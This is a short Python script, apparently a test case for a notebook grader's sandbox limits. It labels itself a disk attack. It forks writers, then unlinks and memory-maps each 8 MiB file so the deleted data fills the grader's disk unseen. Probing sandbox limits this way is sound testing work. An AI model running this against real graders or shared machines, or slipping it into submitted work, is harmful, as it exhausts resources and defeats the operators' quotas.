"""Fills the grader's disk with deleted files that it keeps mapped, by a fork that has ended.

attack: disk
limits: disk=24 cell=8
names: disk
"""
import mmap, os, time
from ipykernel.connect import get_connection_file
path = os.path.join(os.path.dirname(get_connection_file()), "mapped")
kept = []
for _ in range(10):
    writer = os.fork()
    if writer == 0:
        with open(path, "wb") as file:
            file.write(bytes(2**23))
        os._exit(0)
    os.waitpid(writer, 0)
    file = os.open(path, os.O_RDWR)
    os.unlink(path)
    kept.append(mmap.mmap(file, 2**23))
    os.close(file)
time.sleep(100)
